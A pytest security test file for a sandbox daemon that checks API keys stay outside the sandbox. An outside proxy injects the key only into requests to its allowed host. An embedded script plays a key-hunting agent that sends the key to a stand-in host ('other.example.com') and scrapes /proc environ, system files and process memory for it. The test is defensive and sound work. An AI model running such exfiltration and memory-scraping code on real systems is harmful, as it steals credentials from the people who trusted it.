"""Threat: code that uses a key learns it, or sends it where it is not for.

Controls: in the sandbox is a placeholder; a process outside of it puts the key into headers of
requests to the key's hosts alone, over TLS that it has verified, and takes it out of what comes
back. Without these (``--env KEY=...`` in place of ``--secret``) the same program has the key, and
the other host is sent it.
"""

import contextlib
import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.security.daemons import Daemon, running, until
from tests.upstream import Upstream

KEY = "sk-ant-TheKeyOfTheTest0123456789abcdef"
# It matches the key and not itself.
_LOOK = r"sk-ant-TheKeyOf[T]heTest"
API, OTHER = "api.example.com", "other.example.com"
_CONFIG = """
[sandbox]
networks = ["none", "restricted"]
[egress]
ca_file = "{ca_file}"
allow = ["api.example.com", "other.example.com", "read other.example.com"]
[[egress.host]]
name = "api.example.com"
address = "127.0.0.1:{port}"
[[egress.host]]
name = "other.example.com"
address = "127.0.0.1:{port}"
"""
# What an agent would do, and then what one would that is after the key.
AGENT = r"""
import glob, json, os, re, ssl, sys, urllib.error, urllib.request
key, found = os.environ["KEY"], {}

def asked(url, data=None, **headers):
    request = urllib.request.Request(url, data, headers)
    try:
        with urllib.request.urlopen(request, timeout=120) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()
    except OSError as error:
        return 0, str(error)

found["used"] = asked("https://api.example.com/v1/me", Authorization="Bearer " + key)
found["posted"] = asked("https://api.example.com/v1", b"spell " + key.encode(), Authorization=key)
found["elsewhere"] = asked("https://other.example.com/", Authorization="Bearer " + key)
found["in a target"] = asked("https://other.example.com/?" + key)
held = re.compile(sys.argv[1].encode())
seen = [key.encode(), json.dumps(found).encode()]
for path in ("/proc/*/environ", "/proc/*/cmdline", "/tmp/*", "/run/*", "/run/*/*", "/etc/*",
             "/home/*/*", "/workspace/*", "/.agentd/*/*"):
    for name in glob.glob(path):
        try:
            seen.append(open(name, "rb").read(8 << 20))
        except OSError:
            pass
for line in open("/proc/self/maps"):
    start, end = (int(each, 16) for each in line.split()[0].split("-"))
    if line.split()[1].startswith("rw"):
        try:
            with open("/proc/self/mem", "rb", 0) as memory:
                memory.seek(start)
                seen.append(memory.read(end - start))
        except (OSError, ValueError, OverflowError):
            pass
found["key"] = any(held.search(each) for each in seen)
found["looked at"] = len(seen)
print(json.dumps(found))
"""
_ASKS = """
import os, urllib.request
headers = {"Authorization": os.environ["KEY"]}
asked = urllib.request.Request("https://api.example.com/", headers=headers)
print(urllib.request.urlopen(asked, timeout=120).status)
"""


@pytest.fixture(scope="module")
def upstream(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Upstream]:
    made = Upstream(tmp_path_factory.mktemp("upstream"), API, OTHER)
    yield made
    made.close()


@contextlib.contextmanager
def having_the_key(upstream: Upstream) -> Iterator[Daemon]:
    with running(_CONFIG.format(port=upstream.port, ca_file=upstream.ca_file)) as made:
        assert made.ask("PUT", "/v1/secrets/KEY", {"value": KEY}).status == 200
        yield made


@pytest.fixture(scope="module")
def daemon(upstream: Upstream) -> Iterator[Daemon]:
    with having_the_key(upstream) as made:
        yield made


def _ran(daemon: Daemon, **wanted: Any) -> tuple[str, dict[str, Any]]:
    made = daemon.ask("POST", "/v1/sandboxes", {"net": ["read other.example.com"], **wanted})
    assert made.status == 201, made.body
    box = str(made.json["id"])
    body = {"cmd": ["python3", "-c", AGENT, _LOOK], "timeout": 200}
    ran = daemon.ask("POST", f"/v1/sandboxes/{box}/exec", body)
    assert ran.json["status"] == "ok", ran.body
    return box, json.loads(ran.json["stdout"])


@pytest.mark.parametrize(
    "backend",
    [
        "linux",
        pytest.param("oci", marks=pytest.mark.needs("runc")),
        pytest.param("gvisor", marks=[pytest.mark.needs("runsc"), pytest.mark.timeout(900)]),
    ],
)
def test_an_agent_uses_a_key_that_it_never_has(
    daemon: Daemon, upstream: Upstream, backend: str
) -> None:
    upstream.asked.clear()
    box, found = _ran(daemon, secrets=[f"KEY@{API}"], backend=backend)
    try:
        assert found["key"] is False
        assert found["looked at"] > 20
        assert found["used"][0] == found["posted"][0] == 200
        assert (found["elsewhere"][0], found["in a target"][0]) == (403, 403)
        assert "credential_elsewhere" in found["elsewhere"][1]
        asked = [each["headers"]["Authorization"] for each in upstream.asked]
        assert asked == [f"Bearer {KEY}", KEY]
        assert KEY not in upstream.asked[1]["body"]
        told = daemon.records(kind="denial", capability="network.secret")
        assert any("secret KEY is not for other.example.com" in str(r.fields) for r in told)
        view = daemon.ask("GET", f"/v1/sandboxes/{box}/network/connections")
        assert [row["alarm"] for row in view.json["connections"]].count(True) == 2
        assert KEY.encode() not in view.body
        written = daemon.everything_written().replace(_kept(daemon), b"")
        assert KEY.encode() not in written
        if backend != "gvisor":  # whose processes are none of the host's
            _check_memory(daemon, box)
    finally:
        daemon.ask("DELETE", f"/v1/sandboxes/{box}")


def _kept(daemon: Daemon) -> bytes:
    (file,) = Path(daemon.folder).glob("**/secrets.json")
    return file.read_bytes()


def _check_memory(daemon: Daemon, box: str) -> None:
    """Of all processes in the sandbox, its agent too, as its host sees them."""
    if os.geteuid():
        return  # nobody else may look at an agent
    path = f"/v1/sandboxes/{box}/exec"
    seconds = f"987{int.from_bytes(os.urandom(4)):010d}"  # by which it is found on the machine
    begun = daemon.ask("POST", path, {"cmd": ["sleep", seconds], "wait": False})
    assert begun.status == 201, begun.body
    pids: list[int] = []
    sleepers: list[int] = []
    words = f"sleep\0{seconds}\0".encode()

    def sleeps() -> bool:
        """A process that begins has no words for a moment."""
        pids[:] = [int(name) for name in os.listdir("/proc") if name.isdigit()]
        sleepers[:] = [pid for pid in pids if _read(pid, "cmdline") == words]
        return bool(sleepers)

    until(sleeps)
    (sleeper,) = sleepers
    own = os.readlink(f"/proc/{sleeper}/ns/pid")
    found = 0
    for pid in pids:
        with contextlib.suppress(OSError):
            if os.readlink(f"/proc/{pid}/ns/pid") == own:
                found += 1
                assert KEY.encode() not in _memory(pid)
                assert KEY.encode() not in _read(pid, "environ")
    assert found >= 2


def _read(pid: int, name: str) -> bytes:
    try:
        return Path(f"/proc/{pid}/{name}").read_bytes()
    except OSError:
        return b""


def _memory(pid: int) -> bytes:
    parts = []
    with open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
            start, end = (int(each, 16) for each in line.split()[0].split("-"))
            if line.split()[1].startswith("rw"):
                with contextlib.suppress(OSError, ValueError, OverflowError):
                    memory.seek(start)
                    parts.append(memory.read(end - start))
    return b"\n".join(parts)


def test_with_the_control_left_out_the_same_program_has_the_key(
    daemon: Daemon, upstream: Upstream
) -> None:
    upstream.asked.clear()
    box, found = _ran(daemon, env={"KEY": KEY}, net=[API, OTHER])
    daemon.ask("DELETE", f"/v1/sandboxes/{box}")
    assert found["key"] is True


def test_a_fork_and_a_restored_sandbox_of_the_next_daemon_use_it_too(upstream: Upstream) -> None:
    with running(_CONFIG.format(port=upstream.port, ca_file=upstream.ca_file)) as daemon:
        assert daemon.ask("PUT", "/v1/secrets/KEY", {"value": KEY}).status == 200
        box = daemon.sandbox(secrets=[f"KEY@{API}"])
        daemon.stop(kill=True)
        daemon.start()
        forked = daemon.ask("POST", f"/v1/sandboxes/{box}/fork", {"count": 1})
        assert forked.status == 201, forked.body
        kept = daemon.ask("POST", f"/v1/sandboxes/{box}/snapshot")
        restored = daemon.ask("POST", "/v1/sandboxes", {"snapshot": kept.json["id"]})
        assert restored.status == 201, restored.body
        upstream.asked.clear()
        for each in (box, forked.json[0]["id"], restored.json["id"]):
            body = {"cmd": ["python3", "-c", _ASKS], "timeout": 200}
            ran = daemon.ask("POST", f"/v1/sandboxes/{each}/exec", body)
            assert ran.json["stdout"] == "200\n", ran.body
        assert [each["headers"]["Authorization"] for each in upstream.asked] == [KEY] * 3


def test_programs_of_another_use_no_secret_of_the_admins_who_restores_them(
    upstream: Upstream,
) -> None:
    """Of the same name: bob's snapshot or fork would use the admin's, at hosts that bob chose."""
    with running(_CONFIG.format(port=upstream.port, ca_file=upstream.ca_file)) as daemon:
        key = daemon.key("bob", "run", "create", "files", "read", "snapshot", "egress", "secrets")
        for value, who in ((KEY, ""), ("bob's-own-key-0123456789", key)):
            assert daemon.ask("PUT", "/v1/secrets/KEY", {"value": value}, key=who).status == 200
        box = daemon.sandbox(key, secrets=[f"KEY@{API}"])
        of_bob = daemon.ask("POST", f"/v1/sandboxes/{box}/snapshot", key=key).json["id"]
        of_admin = daemon.ask("POST", f"/v1/sandboxes/{box}/snapshot").json["id"]
        path = f"/v1/sandboxes/{box}/fork"
        asked = [daemon.ask("POST", path, {"count": 1})]
        asked += [daemon.ask("POST", "/v1/sandboxes", {"snapshot": s}) for s in (of_bob, of_admin)]
        for each in asked:
            assert each.status == 403, each.body
            assert "secret KEY is bob's, and not yours to use" in each.json["message"]
            assert f"KEY@{API}" in each.json["remediation"]
        upstream.asked.clear()
        made = daemon.ask("POST", "/v1/sandboxes", {"snapshot": of_bob}, key=key)
        given = {"snapshot": of_bob, "secrets": [f"KEY@{API}"]}
        for restored, who in ((made, key), (daemon.ask("POST", "/v1/sandboxes", given), "")):
            assert restored.status == 201, restored.body
            body = {"cmd": ["python3", "-c", _ASKS], "timeout": 200}
            at = f"/v1/sandboxes/{restored.json['id']}/exec"
            assert daemon.ask("POST", at, body, key=who).json["stdout"] == "200\n"
        found = [each["headers"]["Authorization"] for each in upstream.asked]
        assert found == ["bob's-own-key-0123456789", KEY]
